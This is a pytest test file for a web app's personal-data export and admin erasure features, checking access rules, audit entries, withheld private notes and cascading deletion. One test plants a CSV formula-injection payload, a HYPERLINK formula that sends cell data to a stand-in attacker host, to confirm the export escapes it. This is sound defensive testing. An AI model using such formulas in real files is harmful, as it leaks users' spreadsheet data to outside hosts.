"""A person's data rights: download everything held about them; an admin erases them.

The world: Mia (member) and Oscar (member) work together; Kay and Lee are two
other people, whose tie Mia must never see; Ada is an admin, Ana a people
analyst. Each of them has data in every app, and each private note says
whose it is ("MIA-SECRET-...", "OSCAR-SECRET-..."), so the expected contents
of an export come from the fixture, not from the code under test: Mia's
secrets are in her own export and nowhere else, Oscar's never in hers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile

import pytest
from django.db.models import Q
from django.urls import reverse
from django.utils import timezone

from bridgework import factories
from bridgework.accounts.models import ApiToken, AuditEntry, Role, User
from bridgework.accounts.services import api_token_create, audit_record
from bridgework.analysis.models import AnalysisRun, PersonMetric
from bridgework.eventstore import StoreBusyError, get_event_store
from bridgework.impact.models import Objective, Outcome, OutcomeContributor, Stakeholder
from bridgework.interactions.models import Interaction, InteractionParticipant
from bridgework.mentoring import services as mentoring_services
from bridgework.mentoring.models import (
    Assessment,
    Enrollment,
    MentoringRelationship,
    MentoringSession,
    SessionNote,
)
from bridgework.network.models import Nudge, PortfolioEntry, Tie, TieRecompute
from bridgework.network.tests.conftest import make_tie
from bridgework.people import rights
from bridgework.people.models import Person, PersonSkill, Relationship

pytestmark = pytest.mark.django_db

DAY = dt.datetime(2026, 3, 2, 10, 0, tzinfo=dt.UTC)


def event(external_id, sender, recipients, *, direction="two_way", channel="meeting"):
    return {
        "source": "test",
        "external_id": external_id,
        "occurred_at": DAY,
        "channel": channel,
        "sender_id": sender.pk,
        "recipient_ids": [p.pk for p in recipients],
        "direction": direction,
    }


@pytest.fixture
def world(db, settings, tmp_path):
    settings.DATA_DIR = tmp_path
    red = factories.TeamFactory(name="Red")
    mia = factories.UserFactory(
        username="mia", roles=[Role.MEMBER], person__full_name="Mia Moss", person__team=red
    )
    oscar = factories.UserFactory(
        username="oscar", roles=[Role.MEMBER], person__full_name="Oscar Orr", person__team=red
    )
    ada = factories.UserFactory(
        username="ada", roles=[Role.ADMIN, Role.MEMBER], person__full_name="Ada Admin"
    )
    ana = factories.UserFactory(username="ana", roles=[Role.PEOPLE_ANALYST], person=None)
    pat = factories.UserFactory(
        username="pat", roles=[Role.MEMBER, Role.PROGRAM_MANAGER], person__full_name="Pat Pm"
    )
    kay = factories.PersonFactory(full_name="Kay Kim", team=red)
    lee = factories.PersonFactory(full_name="Lee Lu", team=red)
    me, osc = mia.person, oscar.person
    me.phone = "+44 20 7946 0000"
    me.save()

    factories.PersonSkillFactory(person=me, level=4, skill__name="Negotiation")
    PersonSkill.objects.create(person=osc, skill=factories.SkillFactory(name="Sales"), level=3)
    PersonSkill.objects.create(
        person=osc, skill=PersonSkill.objects.get(person=osc).skill, level=4, endorsed_by=me
    )
    Relationship.objects.create(
        person=me, other=osc, closeness=4, declared_by=mia, private_note="MIA-SECRET-REL"
    )
    Relationship.objects.create(
        person=osc, other=me, closeness=2, declared_by=oscar, private_note="OSCAR-SECRET-REL"
    )
    third_party = Relationship.objects.create(
        person=kay, other=lee, closeness=5, declared_by=oscar, private_note="OSCAR-SECRET-KAYLEE"
    )

    # Logged interactions: Oscar's with Mia and Kay; Mia's with Oscar only.
    shared = factories.InteractionFactory(
        people=[me, osc, kay], logged_by=oscar, private_note="OSCAR-SECRET-MEETING"
    )
    pair = factories.InteractionFactory(
        people=[me, osc], logged_by=mia, private_note="MIA-SECRET-MEETING"
    )
    get_event_store().write_events(
        [
            event("mia-mail", me, [osc], direction="one_way", channel="email"),
            event("mia-meeting", me, [osc, kay]),
            event("kay-lee", kay, [lee]),
            event("oscar-kay", osc, [kay]),
        ]
    )

    make_tie(me, osc, 0.8)
    make_tie(kay, lee, 0.9)  # a third-party tie: never in Mia's export
    make_tie(osc, kay, 0.4)
    PortfolioEntry.objects.create(owner=me, other=osc, tier="core", note="MIA-SECRET-PORTFOLIO")
    PortfolioEntry.objects.create(owner=osc, other=me, tier="wider", note="OSCAR-SECRET-PORTFOLIO")
    Nudge.objects.create(owner=me, other=osc, kind="overdue", reason="Catch up with Oscar")
    Nudge.objects.create(owner=osc, other=me, kind="cooling", reason="Oscar should call Mia")
    run = AnalysisRun.objects.create(status="succeeded", finished_at=timezone.now())
    for person, degree in ((me, 7), (osc, 3)):
        PersonMetric.objects.create(
            run=run,
            person=person,
            degree=degree,
            weighted_degree=1.0,
            betweenness=0.1,
            pagerank=0.1,
            eigenvector=0.1,
            k_core=1,
            two_step_reach=2,
            community=1,
            brokerage=0,
            diversity_team=0.0,
            diversity_organization=0.0,
            diversity_engagement=0.0,
            people_cut_off=0,
            people_losing_a_group=0,
            group_links_lost=0,
            cross_group_ties=0,
            betweenness_rank=1,
        )

    program = mentoring_services.program_create(
        actor=pat,
        name="Builders",
        goal="Build relationships.",
        start_date=timezone.now().date() - dt.timedelta(days=30),
        end_date=timezone.now().date() + dt.timedelta(days=150),
    )
    mentee = Enrollment.objects.create(program=program, person=me, role="mentee", goals="Grow")
    mentor = Enrollment.objects.create(program=program, person=osc, role="mentor", capacity=2)
    pairing = MentoringRelationship.objects.create(
        program=program,
        mentee=me,
        mentor=osc,
        mentee_enrollment=mentee,
        mentor_enrollment=mentor,
        status=MentoringRelationship.Status.ACTIVE,
    )
    session = MentoringSession.objects.create(
        relationship=pairing, scheduled_at=timezone.now() - dt.timedelta(days=2), status="held"
    )
    SessionNote.objects.create(session=session, author=me, text="MIA-SECRET-SESSION")
    SessionNote.objects.create(session=session, author=osc, text="OSCAR-SECRET-SESSION")
    Assessment.objects.create(
        enrollment=mentee,
        relationship=pairing,
        subject=me,
        assessor=osc,
        kind="mentor",
        round="start",
        framework_version=program.framework_version,
        comment="Mia listens well",
    )

    objective = Objective.objects.create(owner=me, title="Win the Acme renewal")
    Stakeholder.objects.create(objective=objective, person=osc, reason="Knows Acme")
    Outcome.objects.create(
        owner=me, kind="deal", title="Acme renewed", value=1000, unit="money", occurred_on=DAY
    )
    oscars = Outcome.objects.create(
        owner=osc, kind="deal", title="Beta signed", value=500, unit="money", occurred_on=DAY
    )
    OutcomeContributor.objects.create(outcome=oscars, person=me, share=0.5)

    _, token = api_token_create(user=mia, name="notebook")
    # Someone looked at Mia's relationships: an audit entry about her.
    audit_record(
        actor=ada,
        action=AuditEntry.Action.VIEW,
        object_type="relationships",
        subject_person_id=me.pk,
        detail={"looked_at": "Mia Moss"},
    )
    return {
        "mia": mia,
        "oscar": oscar,
        "ada": ada,
        "ana": ana,
        "kay": kay,
        "lee": lee,
        "shared": shared,
        "pair": pair,
        "third_party": third_party,
        "mia_token": token,
    }


def unzip(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def rows(files: dict[str, str], name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files[name])))


def download(client, user, person) -> dict[str, str]:
    client.force_login(user)
    response = client.get(reverse("people:export", args=[person.pk]))
    assert response.status_code == 200, response.content[:200]
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="bridgework-person-{person.pk}-'
    )
    return unzip(response.content)


# ---- Export ------------------------------------------------------------------------------


def test_a_member_downloads_everything_held_about_them(client, world):
    mia, me = world["mia"], world["mia"].person
    files = download(client, mia, me)
    everything = "\n".join(files.values())

    parts = ("people", "accounts", "events", "network", "interactions", "analysis")
    assert {"README.txt", *(f"{p}.json" for p in (*parts, "mentoring", "impact"))} <= set(files)
    # Her profile, addresses, skills, private details.
    (profile,) = rows(files, "people/profile.csv")
    # A cell starting with "+" is one a spreadsheet would run: it is written as text.
    assert (profile["full_name"], profile["phone"]) == ("Mia Moss", "'+44 20 7946 0000")
    assert [r["address"] for r in rows(files, "people/emails.csv")] == [me.primary_email]
    assert [r["skill"] for r in rows(files, "people/skills.csv")] == ["Negotiation"]
    assert [r["person"] for r in rows(files, "people/endorsements_given.csv")] == ["Oscar Orr"]
    # Both relationships with Oscar; only her own note.
    relationships = rows(files, "people/relationships.csv")
    assert sorted((r["with"], r["declared_by_you"]) for r in relationships) == [
        ("Oscar Orr", "False"),
        ("Oscar Orr", "True"),
    ]
    # Her own private notes, everywhere, and nobody else's.
    for secret in (
        "MIA-SECRET-REL",
        "MIA-SECRET-MEETING",
        "MIA-SECRET-PORTFOLIO",
        "MIA-SECRET-SESSION",
    ):
        assert secret in everything, secret
    assert "OSCAR-SECRET" not in everything
    # Her ties only: never the one between Kay and Lee, nor Oscar's with Kay.
    assert [r["with"] for r in rows(files, "network/ties.csv")] == ["Oscar Orr"]
    assert "Lee Lu" not in everything
    # Her events (sender or recipient), not the others'.
    events = rows(files, "events/events.csv")
    assert sorted((e["external_id"], e["your_part"]) for e in events) == [
        ("mia-mail", "sender"),
        ("mia-meeting", "sender"),
    ]
    # The other apps' parts.
    assert [r["title"] for r in rows(files, "impact/objectives.csv")] == ["Win the Acme renewal"]
    assert [r["person"] for r in rows(files, "impact/stakeholders.csv")] == ["Oscar Orr"]
    assert [r["title"] for r in rows(files, "impact/outcomes.csv")] == ["Acme renewed"]
    assert [r["by"] for r in rows(files, "mentoring/assessments.csv")] == ["Oscar Orr"]
    assert [r["degree"] for r in rows(files, "analysis/metrics.csv")] == ["7"]
    assert len(rows(files, "interactions/interactions.csv")) == 2
    (login,) = rows(files, "accounts/login.csv")
    assert login["username"] == "mia"
    (token,) = rows(files, "accounts/api_tokens.csv")
    assert token["name"] == "notebook"
    assert world["mia_token"] not in everything
    assert ApiToken.objects.get(user=mia).digest not in everything
    # The audit log about her: summarised, never who looked.
    (about,) = rows(files, "accounts/audit_about_you.csv")
    assert (about["action"], about["object_type"], about["entries"]) == (
        "view",
        "relationships",
        "1",
    )
    assert "ada" not in files["accounts/audit_about_you.csv"]
    # The JSON holds the same tables.
    data = json.loads(files["network.json"])
    assert [t["with"] for t in data["ties"]] == ["Oscar Orr"]
    # The README names every file.
    assert "people/relationships.csv" in files["README.txt"]
    assert "events/events.csv" in files["README.txt"]


def test_the_download_is_written_to_the_audit_log(client, world):
    download(client, world["mia"], world["mia"].person)
    entry = AuditEntry.objects.get(object_type=rights.EXPORT_OBJECT_TYPE)
    assert (entry.actor, entry.subject_person_id, entry.detail) == (
        world["mia"],
        world["mia"].person_id,
        {"own": True},
    )


@pytest.mark.parametrize("who", ["oscar", "ana"])
def test_nobody_but_the_person_and_admins_downloads_someones_data(client, world, who):
    client.force_login(world[who])
    for person in (world["mia"].person, world["kay"]):
        response = client.get(reverse("people:export", args=[person.pk]))
        assert response.status_code == 404
    assert client.get(reverse("people:export", args=[999_999])).status_code == 404
    assert not AuditEntry.objects.filter(object_type=rights.EXPORT_OBJECT_TYPE).exists()


def test_signed_out_visitors_are_sent_to_sign_in(client, world):
    response = client.get(reverse("people:export", args=[world["mia"].person_id]))
    assert response.status_code == 302
    assert reverse("accounts:login") in response["Location"]


def test_through_the_api_too(client, world):
    _, oscar_token = api_token_create(user=world["oscar"], name="t")
    url = f"/api/people/{world['mia'].person_id}/export"
    assert client.get(url, headers={"Authorization": f"Bearer {oscar_token}"}).status_code == 404
    response = client.get(url, headers={"Authorization": f"Bearer {world['mia_token']}"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert "MIA-SECRET-REL" in unzip(response.content)["people.json"]
    assert client.get(url).status_code == 401


def test_an_admin_downloads_anyones_data_audited_without_their_private_notes(client, world):
    files = download(client, world["ada"], world["mia"].person)
    everything = "\n".join(files.values())
    assert "Mia Moss" in files["people/profile.csv"]
    assert "MIA-SECRET" not in everything
    assert "OSCAR-SECRET" not in everything
    assert rights.WITHHELD_NOTE in files["people/relationships.csv"]
    assert "made by an admin" in files["README.txt"]
    entry = AuditEntry.objects.get(object_type=rights.EXPORT_OBJECT_TYPE)
    assert (entry.actor, entry.subject_person_id, entry.detail["own"]) == (
        world["ada"],
        world["mia"].person_id,
        False,
    )


def test_csv_cells_cannot_run_as_formulas(client, world):
    me = world["mia"].person
    me.full_name = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    me.save()
    files = download(client, world["mia"], me)
    (profile,) = rows(files, "people/profile.csv")
    assert profile["full_name"] == "'" + me.full_name
    # The JSON keeps the name as it is.
    assert json.loads(files["people.json"])["profile"][0]["full_name"] == me.full_name


def test_the_profile_shows_the_buttons_to_whom_they_apply(client, world):
    me = world["mia"].person
    export_url = reverse("people:export", args=[me.pk])
    erase_url = reverse("people:erase", args=[me.pk])
    for user, export, erase in (
        (world["mia"], True, False),
        (world["oscar"], False, False),
        (world["ada"], True, True),
    ):
        client.force_login(user)
        page = client.get(reverse("people:detail", args=[me.pk])).content.decode()
        assert (export_url in page, erase_url in page) == (export, erase), user


# ---- Erasure -----------------------------------------------------------------------------


def rows_naming(person_id: int) -> dict[str, int]:
    """Every table row pointing at the person, by ``Model.field``."""
    found = {}
    for relation in Person._meta.get_fields(include_hidden=True):
        if not relation.auto_created or relation.concrete or relation.many_to_many:
            continue
        count = relation.related_model._base_manager.filter(
            **{relation.field.name: person_id}
        ).count()
        if count:
            found[f"{relation.related_model.__name__}.{relation.field.name}"] = count
    return found


def test_an_admin_erases_a_person_and_everything_held_about_them(
    client, world, django_capture_on_commit_callbacks
):
    _mia, me = world["mia"], world["mia"].person
    oscar, kay, lee = world["oscar"].person, world["kay"], world["lee"]
    mia_id, email = me.pk, me.primary_email
    assert rows_naming(mia_id)  # she is everywhere before
    client.force_login(world["ada"])

    page = client.get(reverse("people:erase", args=[mia_id]))
    assert page.status_code == 200
    text = page.content.decode()
    for what in ("relationships", "ties", "enrollments", "objectives", "events"):
        assert what in text
    # Without the confirmation, nothing happens.
    refused = client.post(reverse("people:erase", args=[mia_id]))
    assert refused.status_code == 422
    assert Person.objects.filter(pk=mia_id).exists()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("people:erase", args=[mia_id]), {"confirm": str(mia_id)})
    assert response.status_code == 302

    # Her person, her login and everything pointing at her are gone.
    assert not Person.objects.filter(pk=mia_id).exists()
    assert rows_naming(mia_id) == {}
    assert not User.objects.filter(username="mia").exists()
    assert not ApiToken.objects.exists()
    assert not PortfolioEntry.objects.exists()
    assert list(Nudge.objects.all()) == []
    assert not Objective.objects.exists()
    assert list(Outcome.objects.values_list("title", flat=True)) == ["Beta signed"]
    assert not OutcomeContributor.objects.exists()
    assert not MentoringRelationship.objects.exists()
    assert not SessionNote.objects.exists()
    assert not Assessment.objects.exists()
    assert list(Enrollment.objects.values_list("person", flat=True)) == [oscar.pk]
    # No analysis row names her (the run the erasure starts recomputes the others').
    assert not PersonMetric.objects.filter(person_id=mia_id).exists()
    assert PersonMetric.objects.filter(person=oscar).exists()
    # Relationships: hers go; the one Oscar declared between Kay and Lee stays.
    assert list(Relationship.objects.values_list("pk", flat=True)) == [world["third_party"].pk]
    # Interactions: the one of just Mia and Oscar goes; Oscar's with Kay stays without her.
    assert not Interaction.objects.filter(pk=world["pair"].pk).exists()
    assert set(
        InteractionParticipant.objects.filter(interaction=world["shared"]).values_list(
            "person", flat=True
        )
    ) == {oscar.pk, kay.pk}
    # The event store: none of her events; her meeting with Oscar and Kay stays without her.
    store = get_event_store()
    assert store.count_events(person_id=mia_id) == 0
    events = {e["external_id"]: e for e in store.events().to_pylist()}
    assert "mia-mail" not in events
    assert (events["mia-meeting"]["sender_id"], events["mia-meeting"]["recipient_ids"]) == (
        None,
        sorted([oscar.pk, kay.pk]),
    )
    assert events["kay-lee"]["recipient_ids"] == [lee.pk]
    shared_event = events[f"interaction:{world['shared'].pk}"]
    assert {shared_event["sender_id"], *shared_event["recipient_ids"]} == {oscar.pk, kay.pk}
    # The ties of whoever shared events with her were recomputed from the store.
    recompute = TieRecompute.objects.get(reason=f"erasure of person #{mia_id}")
    assert (recompute.status, recompute.people) == ("succeeded", sorted([oscar.pk, kay.pk]))
    assert not Tie.objects.filter(Q(person_a_id=mia_id) | Q(person_b_id=mia_id)).exists()
    assert Tie.objects.filter(person_a_id=min(oscar.pk, kay.pk)).exists()
    # The audit log says who erased which person id, and when, and nothing about her.
    entry = AuditEntry.objects.get(object_type=rights.ERASURE_OBJECT_TYPE)
    assert (entry.actor, entry.action, entry.object_id, entry.subject_person_id) == (
        world["ada"],
        "delete",
        str(mia_id),
        mia_id,
    )
    recorded = json.dumps(entry.detail)
    for erased in ("Mia", "Moss", email, "mia", "SECRET", "Acme", "+44"):
        assert erased not in recorded
    assert entry.detail["counts"]["people"]["relationships"] == 2
    # The entries about her lost their details.
    looked = AuditEntry.objects.get(object_type="relationships", subject_person_id=mia_id)
    assert looked.detail == {"erased": True}


def test_the_cli_erases_and_downloads(world, tmp_path, django_capture_on_commit_callbacks):
    from typer.testing import CliRunner

    from bridgework.cli.main import app

    runner = CliRunner()
    kay = world["kay"]
    out = tmp_path / "kay.zip"
    result = runner.invoke(app, ["people", "export", str(kay.pk), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "Kay Kim" in unzip(out.read_bytes())["people/profile.csv"]
    again = runner.invoke(app, ["people", "export", str(kay.pk), "--out", str(out)])
    assert again.exit_code == 1
    unknown = runner.invoke(app, ["people", "export", "999999", "--out", str(tmp_path / "x.zip")])
    assert unknown.exit_code == 1
    assert not (tmp_path / "x.zip").exists()

    with django_capture_on_commit_callbacks(execute=True):
        result = runner.invoke(app, ["people", "erase", str(kay.pk), "--yes"])
    assert result.exit_code == 0, result.output
    assert f"Erased person #{kay.pk}" in result.output
    assert not Person.objects.filter(pk=kay.pk).exists()
    entry = AuditEntry.objects.get(object_type=rights.ERASURE_OBJECT_TYPE)
    assert (entry.actor, entry.detail["via"]) == (None, "command line")
    missing = runner.invoke(app, ["people", "erase", "999999", "--yes"])
    assert missing.exit_code == 1
    assert "No person with id 999999" in missing.output


@pytest.mark.parametrize("who", ["mia", "oscar", "ana"])
def test_only_admins_erase(client, world, who):
    me = world["mia"].person
    client.force_login(world[who])
    assert client.get(reverse("people:erase", args=[me.pk])).status_code == 404
    response = client.post(reverse("people:erase", args=[me.pk]), {"confirm": str(me.pk)})
    assert response.status_code == 404
    _, token = api_token_create(user=world[who], name="t")
    api = client.post(f"/api/people/{me.pk}/erase", headers={"Authorization": f"Bearer {token}"})
    assert api.status_code == 404
    assert Person.objects.filter(pk=me.pk).exists()
    assert User.objects.filter(username="mia").exists()


def test_the_api_erases_for_admins(client, world):
    kay = world["kay"]
    _, token = api_token_create(user=world["ada"], name="t")
    response = client.post(
        f"/api/people/{kay.pk}/erase", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 200, response.content
    body = response.json()
    assert body["person_id"] == kay.pk
    assert body["counts"]["people"]["emails"] == 1
    assert AuditEntry.objects.get(pk=body["audit_entry_id"]).object_id == str(kay.pk)
    assert not Person.objects.filter(pk=kay.pk).exists()


def test_an_admin_cannot_erase_themselves(client, world):
    ada = world["ada"]
    _, token = api_token_create(user=ada, name="t")
    response = client.post(
        f"/api/people/{ada.person_id}/erase", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 422
    assert Person.objects.filter(pk=ada.person_id).exists()


def test_a_busy_event_store_erases_nothing(client, world, monkeypatch):
    me = world["mia"].person
    before = rows_naming(me.pk)

    def busy(self, *args, **kwargs):
        raise StoreBusyError("busy")

    monkeypatch.setattr("bridgework.core.events.store.EventStore.erase_person", busy)
    client.force_login(world["ada"])
    response = client.post(reverse("people:erase", args=[me.pk]), {"confirm": str(me.pk)})
    assert response.status_code == 503
    assert rows_naming(me.pk) == before
    assert User.objects.filter(username="mia").exists()
    assert get_event_store().count_events(person_id=me.pk) == 2
    assert not AuditEntry.objects.filter(object_type=rights.ERASURE_OBJECT_TYPE).exists()


def test_a_table_no_part_knows_stops_the_erasure(world, monkeypatch):
    """Were an app to keep rows about a person without saying how to erase them,
    the erasure stops rather than leave them (here: the network part is missing)."""
    me = world["mia"].person
    parts = {name: part for name, part in rights._PARTS.items() if name != "network"}
    monkeypatch.setattr(rights, "_PARTS", parts)
    with pytest.raises(Exception, match="portfolio entries") as refused:
        rights.person_erase(actor=None, person=me)
    assert "nothing was erased" in str(refused.value)
    assert Person.objects.filter(pk=me.pk).exists()
    assert PortfolioEntry.objects.filter(owner=me).exists()
